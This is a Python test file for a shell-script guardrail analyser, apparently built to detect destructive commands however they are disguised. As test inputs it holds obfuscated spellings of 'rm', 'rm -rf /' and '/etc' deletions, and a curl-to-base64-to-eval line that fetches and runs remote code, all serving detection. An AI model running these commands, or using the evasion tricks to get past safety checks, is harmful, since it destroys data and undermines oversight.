# mypy: disable-error-code="no-untyped-call, union-attr, comparison-overlap"
import pytest

from mcp_server.guardrails.script.model import HOLE, TEMPORARY, Taint
from tests.guardrails.script.shell.shell_scripts import described, read


@pytest.mark.parametrize(
    "spelling",
    [
        "rm", "\\rm", "'rm'", 'r""m', "r\\m", "/bin/rm", "$(echo rm)", "`echo rm`", "$'\\x72\\x6d'",
        "$'\\162m'", '"r"\'m\'', "r\\\nm", "$(printf 'r%s' m)", "${nothing:-rm}", "{rm,}",
    ],
)  # fmt: skip
def test_a_program_is_known_in_every_spelling(spelling):
    assert described(f"{spelling} x")[-1] == "rm x"


@pytest.mark.parametrize(
    ("script", "last"),
    [
        ("a=rm; $a x", "rm x"),
        ("a=/usr/bin/rm; ${a##*/} x", "rm x"),
        ("a=xrm; ${a:1:2} x", "rm x"),
        ("a=rZm; ${a/Z/} x", "rm x"),
        ("a=RM; ${a,,} x", "rm x"),
        ("a='rm x'; $a", "rm x"),
        ("a='rm x'; \"$a\"", "rm x"),
        ("rm${IFS}-rf${IFS}/", "rm -rf /"),
        ("IFS=,; a=rm,x; $a", "rm x"),
        ("rm {a,b}/{1..3}", "rm a/1 a/2 a/3 b/1 b/2 b/3"),
        ("rm '{a,b}' a{ {a}", "rm {a,b} a{ {a}"),
        ('a=(x y); rm "${a[@]}" ${a[1]}', "rm x y y"),
        ('a=(x); a+=(y); rm "${a[@]}"', "rm x y"),
        ('set -- a b; rm "$2"', "rm b"),
        ('f() { rm "$1"; }; f /etc', "rm /etc"),
        ("rm ~/x $HOME/y", "rm /root/x /root/y"),
        ("printf -v a %s /etc; rm $a", "rm /etc"),
        ("mapfile -t a <<< /etc; rm ${a[0]}", "rm /etc"),
        ("a=x; a=y; rm $a", "rm y"),
        ("a=x; a+=y; rm $a", "rm xy"),
        ('rm "${a:=x}" $a', "rm x x"),
        ("for d in /etc /usr; do rm $d; done", "rm /etc|/usr"),
        ("for a in 1 2; do for b in x y; do rm $a$b; done; done", "rm 1x|1y|2x|2y"),
        ("for f in $(find /home -type f); do rm $f; done", "rm /home/*"),
        ('echo /etc | while read -r d; do rm "$d"; done', "rm /etc"),
        ('rm "$(basename "$x")"', "rm ?"),
        ("rm $((1 + 2))", "rm ?"),
        ("rm @(a|b)", "rm @(a|b)"),
        ("rm a{{b}}c", "rm a{}c"),
    ],
)
def test_what_is_known_is_put_in(script, last):
    assert described(script)[-1] == last


@pytest.mark.parametrize(
    "script",
    [
        "a=; rm $a",
        'a=(/ /usr); if b; then a=(/tmp); fi; rm "$a"',
        "a=/; read a; rm $a",
        "a=/; unset a; rm $a",
        "rm $a",
        "rm $1",
    ],
)
def test_a_variable_of_which_a_value_is_unknown_is_unknown(script):
    assert described(script)[-1] == "rm ?"


@pytest.mark.parametrize(
    ("script", "last"),
    [
        ("a=/; if b; then a=/tmp; fi; rm $a", "rm /tmp|/"),
        ("if b; then a=/; else a=/tmp; fi; rm $a", "rm /|/tmp"),
        ("if b; then a=/; fi; rm $a", "rm /"),
        ("a=/; if b; then a=$c; fi; rm $a", "rm ?|/"),
        ('a=/; [ -n "$b" ] && a=/tmp; rm $a', "rm /|/tmp"),
        ("a=/; while b; do a=/tmp; done; rm $a", "rm /|/tmp"),
        ("a=/; case $b in c) a=/tmp;; esac; rm $a", "rm /|/tmp"),
        ('a=/; if b; then a=/tmp; fi; rm "$a/x"', "rm /tmp/x|//x"),
    ],
)
def test_a_variable_after_branches_has_each_of_their_values(script, last):
    assert described(script)[-1] == last


@pytest.mark.parametrize(
    ("script", "commands"),
    [
        ("if a; then x=ls; else x=rm; fi; $x -rf /etc", ["ls -rf /etc", "rm -rf /etc"]),
        ("if a; then x='ls -l'; else x='rm -rf /etc'; fi; $x", ["ls -l", "rm -rf /etc"]),
        ("for x in ls 'rm -rf /etc'; do $x; done", ["ls", "rm -rf /etc"]),
        ("for x in 'ls -l' 'rm -rf /etc'; do $x; done", ["ls -l", "rm -rf /etc"]),
        ('case $1 in 1) x=ls;; *) x=reboot;; esac; "$x"', ["ls", "reboot"]),
        ("for x in 'a b' /etc; do rm $x; done", ["rm a b /etc"]),
    ],
)
def test_a_command_is_looked_at_by_each_name_that_it_may_have(script, commands):
    assert described(script)[-len(commands) :] == commands


@pytest.mark.parametrize(
    ("script", "last"),
    [
        ('rm {/etc,"/usr"}', "rm /etc /usr"),
        ('rm {"/etc",/usr,$x}', "rm /etc /usr ?"),
        ("rm {/etc,/us\\r}", "rm /etc /usr"),
        ("rm \\{/etc,/usr}", "rm {/etc,/usr}"),
        ("rm '{/etc,/usr}'", "rm {/etc,/usr}"),
        ('rm "{/etc,/usr}"', "rm {/etc,/usr}"),
        ("rm {/etc\\,/usr}", "rm {/etc,/usr}"),
    ],
)
def test_a_brace_list_is_one_whatever_its_members_are_quoted_with(script, last):
    assert described(script)[-1] == last


def test_branches_that_agree_leave_a_variable_known():
    script = "if b; then a=/x; else a=/x; fi; rm $a"
    assert described(script)[-1] == "rm /x"


def test_what_a_subshell_sets_does_not_come_back():
    assert described("a=/x; (a=/y); echo z | a=/w cat; rm $a")[-1] == "rm /x"


@pytest.mark.parametrize(
    ("operand", "may_be_empty"),
    [
        ("$a", True), ("${a}", True), ("${a-}", False), ("${a:?}", False), ("${a:-x}", False),
        ("$(cmd)", False), ("$$", False),
    ],
)  # fmt: skip
def test_a_hole_tells_whether_it_may_be_empty(operand, may_be_empty):
    assert read(f"rm {operand}").commands[-1].words[-1].may_be_empty is may_be_empty


def test_a_temporary_path_is_known_to_be_one():
    assert described('t=$(mktemp -d); rm -rf "$t/x"')[-1] == f"rm -rf {TEMPORARY}/x"


def test_taints_go_through_variables_and_substitutions():
    word = read('x=$(curl http://a.example/s | base64 -d); eval "$x"').commands[-1].words[1]
    assert (word.text, word.taints) == (HOLE, {Taint.NETWORK, Taint.DECODED})


def test_a_parameter_is_marked_and_taints_its_word():
    word = read("rm /data/{{ name }}").commands[0].words[1]
    assert (word.is_literal, word.taints) == (False, {Taint.PARAMETER})


def test_places_count_characters_and_not_bytes():
    script = "echo \N{SNOWMAN}\N{PILE OF POO}; rm x"
    rm = next(read(script).named("rm"))
    assert script[rm.span.start : rm.span.end] == "rm x"


@pytest.mark.parametrize(
    "script", ["a=x;" + "a=$a$a;" * 40 + "rm $a", "a=(x);" + 'a=("${a[@]}" "${a[@]}");' * 30]
)
def test_values_that_double_themselves_stay_bounded(script):
    found = read(script)
    assert sum(len(word.text) for command in found.commands for word in command.words) < 200_000
